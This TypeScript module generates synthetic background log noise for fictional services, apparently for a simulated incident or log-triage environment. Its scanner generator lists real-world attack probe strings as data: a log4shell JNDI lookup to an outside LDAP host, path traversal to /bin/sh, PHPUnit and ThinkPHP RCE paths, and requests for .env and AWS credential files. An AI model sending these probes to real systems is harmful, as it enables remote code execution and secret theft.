// Harmless traffic noise: abusive clients throttled, vulnerability scanners, clients hanging up, vendor
// hiccups that retries absorb, a non-critical upstream behind a breaker, consumer-group rebalances, broker
// reconnects and slow report queries.
import { count, free, type NoiseKind, PATHS, slot } from "./noise-kit.js";
import * as stacks from "./stacks.js";
import type { Ctx } from "./types.js";
import { role, runtimeOf } from "./types.js";
import { podIp, publicIp, rails } from "./voices.js";

const gateway = (c: Ctx) => role(c.e, "gateway")[0];

export const rateLimitAbuse: NoiseKind = {
  id: "rate-limit-abuse",
  svcs: (e) => role(e, "gateway").slice(0, 1),
  note: (e) =>
    `Quiet: ${role(e, "gateway")[0]} throttles and then blocks a client hammering one endpoint (a scraper), answering hundreds of 429s.`,
  run(c, a) {
    const { s, r, e } = c;
    const gw = gateway(c);
    const ip = publicIp(r);
    const path = r.pick(
      e.key === "tuckshop"
        ? ["/schools/hvps/menu", "/menus/search"]
        : e.key === "hopscotch"
          ? ["/v1/stops/nearby", "/v1/routes"]
          : e.key === "acorns"
            ? ["/v1/kiosk/config", "/v1/photos"]
            : ["/api/directory/staff", "/api/schools/NHS/calendar"],
    );
    const [from, to] = slot(c, (c.t1 - c.t0) * 0.4);
    s.as("noise").spread(count(c, 160, a), from, to, (t) => {
      switch (runtimeOf(e, gw)) {
        case "ruby":
          s.add(
            t,
            gw,
            "WARN",
            `Rack::Attack throttled request: discriminator=${ip} path=${path} matched=req/ip limit=60 period=60`,
          );
          break;
        default:
          if (e.key === "acorns")
            s.add(t, gw, "WARN", "request completed", {
              kv: { method: "GET", url: path, statusCode: 429, responseTime: 0.6, ip, limit: "120/min" },
            });
          else if (e.key === "northfield")
            s.add(t, gw, "WARN", `GET ${path} 429 52 - 0.${r.int(200, 900)} ms ip=${ip}`);
          else s.add(t, gw, "WARN", `GET ${path} -> 429 (1 ms) rate limit exceeded for ${ip}`);
      }
    });
    s.add(
      from + (to - from) * 0.6,
      gw,
      "ERROR",
      `client ${ip} blocked for 15m: ${r.int(900, 3000)} requests in 60s on ${path} (scraping pattern)`,
    );
    s.as("bg");
  },
};

const PROBES = [
  "/wp-login.php",
  "/.env",
  "/.git/config",
  "/actuator/env",
  "/phpmyadmin/index.php",
  "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
  "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell probe string, not a template
  "/?x=${jndi:ldap://45.83.64.1:1389/a}",
  "/api/v1/pods",
  "/server-status",
  "/login.action",
  "/owa/auth/logon.aspx",
  "/solr/admin/info/system",
  "/index.php?s=/Index/\\think\\app/invokefunction",
  "/.aws/credentials",
  "/HNAP1/",
];

export const scanner: NoiseKind = {
  id: "scanner",
  svcs: (e) => role(e, "gateway").slice(0, 1),
  note: (e) =>
    `Quiet: an internet vulnerability scanner sweeps ${role(e, "gateway")[0]} with hundreds of probes (.env, wp-login, log4shell strings) that all get 4xx.`,
  run(c, a) {
    const { s, r, e } = c;
    const gw = gateway(c);
    const ip = publicIp(r);
    const [from, to] = slot(c, 180000);
    s.as("noise").spread(count(c, 130, a), from, to, (t) => {
      const p = r.pick(PROBES);
      const st = p.includes("jndi") || p.includes("%2e") ? 400 : r.chance(0.1) ? 405 : 404;
      const method = r.pick(["GET", "GET", "POST"]);
      switch (runtimeOf(e, gw)) {
        case "ruby":
          rails(c, t, gw, {
            method,
            path: p,
            action: "ErrorsController#not_found",
            status: st === 405 ? 404 : st,
            ms: 1,
            ip,
            format: "*/*",
          });
          if (st !== 400)
            s.add(
              t + 2,
              gw,
              "FATAL",
              `ActionController::RoutingError (No route matches [${method}] "${p.split("?")[0]}"):`,
            );
          break;
        default:
          if (e.key === "acorns")
            s.add(t, gw, st === 400 ? "ERROR" : "WARN", "request completed", {
              kv: { method: r.pick(["GET", "POST"]), url: p, statusCode: st, responseTime: 0.4, ip },
            });
          else if (e.key === "northfield")
            s.add(
              t,
              gw,
              "WARN",
              `${r.pick(["GET", "POST", "HEAD"])} ${p} ${st} ${r.int(9, 150)} - 0.${r.int(100, 999)} ms ua="Mozilla/5.0 zgrab/0.x"`,
            );
          else s.add(t, gw, "WARN", `${r.pick(["GET", "POST"])} ${p} -> ${st} (0 ms) from ${ip}`);
      }
    });
    s.as("bg");
  },
};

export const clientDisconnects: NoiseKind = {
  id: "client-disconnects",
  generic: true,
  svcs: (e) => [...role(e, "gateway"), ...role(e, "core")],
  note: () =>
    "Quiet: mobile clients on flaky networks hang up mid-request; the servers log broken pipes, resets and aborted requests.",
  run(c, a) {
    const { s, r, e } = c;
    const svcs = free(c, [...new Set([...role(e, "gateway"), ...role(e, "core")])]);
    if (!svcs.length) return;
    s.as("noise").spread(count(c, 80, a), c.t0, c.t1, (t) => {
      const svc = r.pick(svcs);
      const peer = `${podIp(r, e.vocab.net)}:${r.int(32768, 60999)}`;
      switch (runtimeOf(e, svc)) {
        case "node":
          s.add(
            t,
            svc,
            "WARN",
            `request aborted by client (ECONNRESET) ${r.pick(["GET", "GET", "POST"])} ${r.pick(PATHS[e.key])}`,
          );
          break;
        case "go":
          s.add(t, svc, "ERROR", "write response failed", {
            kv: { err: `write tcp ${podIp(r, e.vocab.net)}:8080->${peer}: write: broken pipe` },
          });
          break;
        case "java":
          s.add(
            t,
            svc,
            "WARN",
            "Failure in @ExceptionHandler: org.apache.catalina.connector.ClientAbortException: java.io.IOException: Broken pipe",
          );
          break;
        case "python":
          s.add(t, svc, "ERROR", `[${r.int(7, 12)}] [ERROR] Socket error processing request.`, {
            stack: stacks.python(
              [
                {
                  file: "/usr/local/lib/python3.11/site-packages/gunicorn/workers/gthread.py",
                  line: 285,
                  fn: "handle",
                  code: "keepalive = self.handle_request(req, conn)",
                },
                {
                  file: "/usr/local/lib/python3.11/site-packages/gunicorn/workers/gthread.py",
                  line: 357,
                  fn: "handle_request",
                  code: "util.reraise(*sys.exc_info())",
                },
                {
                  file: "/usr/local/lib/python3.11/site-packages/gunicorn/http/wsgi.py",
                  line: 346,
                  fn: "write",
                  code: "util.write(self.sock, arg, self.chunked)",
                },
              ],
              "BrokenPipeError: [Errno 32] Broken pipe",
            ),
          });
          break;
        case "ruby":
          s.add(t, svc, "ERROR", "Puma caught this error: Broken pipe (Errno::EPIPE)");
          break;
        default:
          s.add(
            t,
            svc,
            "WARN",
            "The request was aborted by the client (Microsoft.AspNetCore.Connections.ConnectionResetException: Connection reset by peer)",
          );
      }
    });
    s.as("bg");
  },
};

export const retriesSucceed: NoiseKind = {
  id: "retries-succeed",
  generic: true,
  svcs: (e) => [...role(e, "push"), ...role(e, "payments"), ...role(e, "core")],
  note: () =>
    "Quiet: outside providers (push services, data feeds, payment or reporting APIs) answer 502/503 or time out now and then, and every call succeeds on a retry.",
  run(c, a) {
    const { s, r, e } = c;
    const svcs = free(c, [...new Set([...role(e, "push"), ...role(e, "payments"), ...role(e, "core")])]);
    if (!svcs.length) return;
    s.as("noise").spread(count(c, 40, a), c.t0, c.t1, (t) => {
      const svc = r.pick(svcs);
      const back = r.pick([200, 400, 800]);
      switch (runtimeOf(e, svc)) {
        case "node":
          s.add(
            t,
            svc,
            "WARN",
            `FCM send failed: 503 UNAVAILABLE (The service is currently unavailable.), retrying in ${back}ms (attempt 1/4)`,
          );
          s.add(t + back + r.latency(90), svc, "INFO", "FCM send ok after 2 attempts");
          break;
        case "go":
          s.add(t, svc, "WARN", "upstream error, retrying", {
            kv: {
              upstream: e.key === "hopscotch" ? "traffic-speeds" : "apns",
              status: r.pick([502, 503, 504]),
              attempt: 1,
              backoff: `${back}ms`,
            },
          });
          s.add(t + back + r.latency(80), svc, "INFO", "upstream retry ok", {
            kv: { upstream: e.key === "hopscotch" ? "traffic-speeds" : "apns", attempts: 2 },
          });
          break;
        case "dotnet":
          s.add(
            t,
            svc,
            "WARN",
            `Execution attempt. Source: '${svc}-vendor//Standard-Retry', Operation Key: '', Result: '${r.pick([502, 503])}', Handled: 'True', Attempt: '0', Execution Time: ${r.range(100, 900).toFixed(4)}ms`,
          );
          s.add(
            t + back,
            svc,
            "INFO",
            `Execution attempt. Source: '${svc}-vendor//Standard-Retry', Operation Key: '', Result: '200', Handled: 'False', Attempt: '1', Execution Time: ${r.range(100, 500).toFixed(4)}ms`,
          );
          break;
        case "java":
          s.add(
            t,
            svc,
            "WARN",
            `Retry 'vendorApi', waiting PT0.${back}S until attempt '2'. Last attempt failed with exception 'org.springframework.web.client.HttpServerErrorException$BadGateway: 502 Bad Gateway: [no body]'.`,
          );
          s.add(
            t + back + 100,
            svc,
            "INFO",
            "Retry 'vendorApi' recorded a successful retry attempt. Number of retry attempts: '1'",
          );
          break;
        default:
          s.add(
            t,
            svc,
            "WARN",
            `Retrying (Retry(total=2, connect=None, read=None, redirect=None, status=None)) after connection broken by 'ReadTimeoutError("HTTPSConnectionPool(host='api.edfi.state.example', port=443): Read timed out. (read timeout=5)")': /data/v3/ed-fi/studentSchoolAttendanceEvents`,
          );
          s.add(t + r.int(5200, 6000), svc, "INFO", "Ed-Fi attendance event accepted on retry (201)");
      }
    });
    s.as("bg");
  },
};

export const upstreamFallback: NoiseKind = {
  id: "upstream-fallback",
  svcs: (e) => (e.key === "hopscotch" ? ["stop-eta"] : []),
  note: () =>
    "Quiet: the optional traffic-speeds feed used by stop-eta fails for a while; its circuit breaker opens and ETAs fall back to historical speeds until it closes again.",
  run(c, a) {
    const { s, r } = c;
    const [from, to] = slot(c, (c.t1 - c.t0) * (a >= 1 ? 0.7 : 0.2));
    s.as("noise");
    for (let i = 0; i < 5; i++)
      s.add(from + i * 2000, "stop-eta", "WARN", "traffic-speeds request failed", {
        kv: { status: 503, attempt: i + 1 },
      });
    let open = from + 10000;
    while (open < to) {
      s.add(open, "stop-eta", "WARN", "circuit breaker opened", {
        kv: { name: "traffic-speeds", failures: 5, fallback: "historical speed profile", cooldown: "60s" },
      });
      s.every(r.pick([3000, 5000]), open, open + 60000, 300, (t) =>
        s.add(t, "stop-eta", "WARN", "using historical speeds", {
          kv: { routes: r.int(12, 34), reason: "circuit open" },
        }),
      );
      s.add(open + 60000, "stop-eta", "INFO", "circuit breaker half-open", { kv: { name: "traffic-speeds" } });
      if (open + 120000 > to) {
        s.add(open + 60500, "stop-eta", "INFO", "circuit breaker closed", {
          kv: { name: "traffic-speeds", probe_ms: r.latency(120) },
        });
        break;
      }
      s.add(open + 60500, "stop-eta", "WARN", "traffic-speeds request failed", {
        kv: { status: r.pick([503, 504]), attempt: 1 },
      });
      open += 61000;
    }
    s.as("bg");
  },
};

export const kafkaRebalance: NoiseKind = {
  id: "kafka-rebalance",
  svcs: (e) => (e.key === "hopscotch" ? ["driver-app-api", "geofence-worker"] : []),
  note: () =>
    "Quiet: consumer groups rebalance while pods roll; driver-app-api and geofence-worker log heartbeat failures, revoked partitions and a short lag spike that drains.",
  run(c, a) {
    const { s, r } = c;
    const n = a >= 1 ? r.int(4, 6) : 1;
    let gen = r.int(300, 900);
    s.as("noise");
    for (let i = 0; i < n; i++) {
      const t = r.range(c.t0, c.t1 - 60000);
      gen++;
      const parts = r.sample([0, 1, 2, 3, 4, 5, 6, 7], 3).sort();
      s.add(
        t,
        "driver-app-api",
        "INFO",
        `[Consumer clientId=driver-events-0, groupId=driver-app] Request joining group due to: group is already rebalancing`,
      );
      s.add(
        t + 100,
        "driver-app-api",
        "WARN",
        "[Consumer clientId=driver-events-0, groupId=driver-app] Attempt to heartbeat failed since group is rebalancing",
      );
      s.add(
        t + 200,
        "driver-app-api",
        "INFO",
        `[Consumer clientId=driver-events-0, groupId=driver-app] Revoke previously assigned partitions ${parts.map((p) => `bus-events-${p}`).join(", ")}`,
      );
      s.add(
        t + r.int(3000, 9000),
        "driver-app-api",
        "INFO",
        `[Consumer clientId=driver-events-0, groupId=driver-app] Successfully joined group with generation Generation{generationId=${gen}, memberId='driver-events-0-${r.hex(8)}-${r.hex(4)}', protocol='cooperative-sticky'}`,
      );
      s.add(t + r.int(200, 2000), "geofence-worker", "WARN", "consumer group rebalancing", {
        kv: { group: "geofence", generation: gen },
      });
      s.add(t + r.int(3000, 9000), "geofence-worker", "INFO", "partitions assigned", {
        kv: { topic: "bus-positions", partitions: `[${parts.join(" ")}]` },
      });
      s.add(t + r.int(9000, 15000), "geofence-worker", "WARN", "consumer lag high", {
        kv: { topic: "bus-positions", lag: r.int(5000, 30000) },
      });
      s.add(t + r.int(40000, 60000), "geofence-worker", "INFO", "consumer caught up", {
        kv: { topic: "bus-positions", lag: r.int(0, 40) },
      });
    }
    s.as("bg");
  },
};

export const brokerReconnect: NoiseKind = {
  id: "broker-reconnect",
  svcs: (e) =>
    e.key === "acorns" ? ["photo-pipeline", "parent-inbox"] : e.key === "northfield" ? ["report-worker"] : [],
  note: (e) =>
    `Quiet: a planned RabbitMQ node restart drops the AMQP connections of ${e.key === "acorns" ? "photo-pipeline and parent-inbox" : "report-worker"}; they reconnect within seconds and carry on.`,
  run(c, a) {
    const { s, r, e } = c;
    const n = a >= 1 ? 2 : 1;
    s.as("noise");
    for (let i = 0; i < n; i++) {
      const t = r.range(c.t0, c.t1 - 30000);
      const py = e.key === "acorns" ? "photo-pipeline" : "report-worker";
      s.add(t, py, "WARN", "consumer: Connection to broker lost. Trying to re-establish the connection...", {
        stack: stacks.python(
          [
            {
              file: "/usr/local/lib/python3.11/site-packages/celery/worker/consumer/consumer.py",
              line: 340,
              fn: "start",
              code: "blueprint.start(self)",
            },
            {
              file: "/usr/local/lib/python3.11/site-packages/celery/bootsteps.py",
              line: 116,
              fn: "start",
              code: "step.start(parent)",
            },
            {
              file: "/usr/local/lib/python3.11/site-packages/celery/worker/consumer/consumer.py",
              line: 746,
              fn: "start",
              code: "c.loop(*c.loop_args())",
            },
            {
              file: "/usr/local/lib/python3.11/site-packages/celery/worker/loops.py",
              line: 97,
              fn: "asynloop",
              code: "next(loop)",
            },
            {
              file: "/usr/local/lib/python3.11/site-packages/kombu/asynchronous/hub.py",
              line: 373,
              fn: "create_loop",
              code: "cb(*cbargs)",
            },
            {
              file: "/usr/local/lib/python3.11/site-packages/amqp/connection.py",
              line: 526,
              fn: "drain_events",
              code: "while not self.blocking_read(timeout):",
            },
          ],
          "amqp.exceptions.ConnectionForced: (0, 0): (320) CONNECTION_FORCED - broker forced connection closure with reason 'shutdown'",
        ),
        err: {
          type: "ConnectionForced",
          message: "CONNECTION_FORCED - broker forced connection closure with reason 'shutdown'",
        },
      });
      s.add(
        t + r.int(1000, 2500),
        py,
        "ERROR",
        `consumer: Cannot connect to amqp://${py.replace(/-/g, "_")}:**@rabbitmq.${e.namespace}:5672//: [Errno 111] Connection refused.\nTrying again in 2.00 seconds... (1/100)`,
      );
      s.add(
        t + r.int(4000, 6000),
        py,
        "INFO",
        `Connected to amqp://${py.replace(/-/g, "_")}:**@rabbitmq.${e.namespace}:5672//`,
      );
      if (e.key === "acorns" && !c.avoid.has("parent-inbox")) {
        s.add(
          t + r.int(0, 200),
          "parent-inbox",
          "ERROR",
          "amqp connection closed: CONNECTION_FORCED - broker forced connection closure with reason 'shutdown'",
        );
        s.add(
          t + r.int(2500, 5000),
          "parent-inbox",
          "INFO",
          `amqp reconnected after ${r.range(2, 5).toFixed(1)}s; resumed consumer on queue digest.outbound`,
        );
      }
    }
    s.as("bg");
  },
};

export const slowQueries: NoiseKind = {
  id: "slow-queries",
  svcs: (e) => (e.key === "hopscotch" ? [] : role(e, "core").slice(0, 1)),
  note: (e) =>
    `Quiet: ${role(e, "core")[0]} logs slow-query warnings (1-3 s) for its heaviest report queries at the morning peak; requests still complete.`,
  run(c, a) {
    const { s, r, e } = c;
    const svc = role(e, "core")[0];
    s.as("noise").spread(count(c, 30, a), c.t0, c.t1, (t) => {
      const ms = r.int(1000, 3200);
      switch (runtimeOf(e, svc)) {
        case "ruby":
          s.add(
            t,
            svc,
            "WARN",
            `Slow query (${ms}.${r.int(0, 9)}ms): SELECT "orders".* FROM "orders" INNER JOIN "order_items" ON "order_items"."order_id" = "orders"."id" WHERE "orders"."school_id" = $1 AND "orders"."pickup_date" = $2 ORDER BY "orders"."pickup_slot" ASC`,
          );
          break;
        case "java":
          s.add(
            t,
            svc,
            "INFO",
            `Slow query took ${ms} milliseconds [select c1_0.id,c1_0.child_id,c1_0.room_id,c1_0.checked_in_at from checkins c1_0 where c1_0.centre_id=? and c1_0.checked_in_at>=? order by c1_0.checked_in_at]`,
          );
          break;
        default:
          s.add(
            t,
            svc,
            "WARN",
            `slow query ${(ms / 1000).toFixed(3)}s: SELECT "attendance_mark"."student_id", COUNT(*) FROM "attendance_mark" WHERE ("attendance_mark"."school_id" = %s AND "attendance_mark"."day" >= %s) GROUP BY 1`,
          );
      }
    });
    s.as("bg");
  },
};
